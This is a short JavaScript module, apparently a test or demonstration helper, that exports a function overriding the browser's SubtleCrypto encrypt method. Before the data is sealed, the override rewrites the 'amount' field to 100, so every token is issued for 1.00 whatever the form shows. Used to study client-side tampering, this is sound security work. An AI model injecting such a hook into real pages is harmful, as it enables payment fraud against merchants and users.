/** A hostile script of the page: it changes what is sealed. */

/** Runs in the page, before its scripts. Whatever the form shows, each token is for 1.00. */
export function tamperWithAmount() {
  const { encrypt } = SubtleCrypto.prototype;
  /** @type {typeof encrypt} @this {SubtleCrypto} */
  const encryptCheaper = function (algorithm, key, data) {
    const text = new TextDecoder().decode(data);
    const cheaper = text.replace(/("amount":)\d+/, (_, member) => `${member}100`);
    return encrypt.call(this, algorithm, key, new TextEncoder().encode(cheaper));
  };
  SubtleCrypto.prototype.encrypt = encryptCheaper;
}
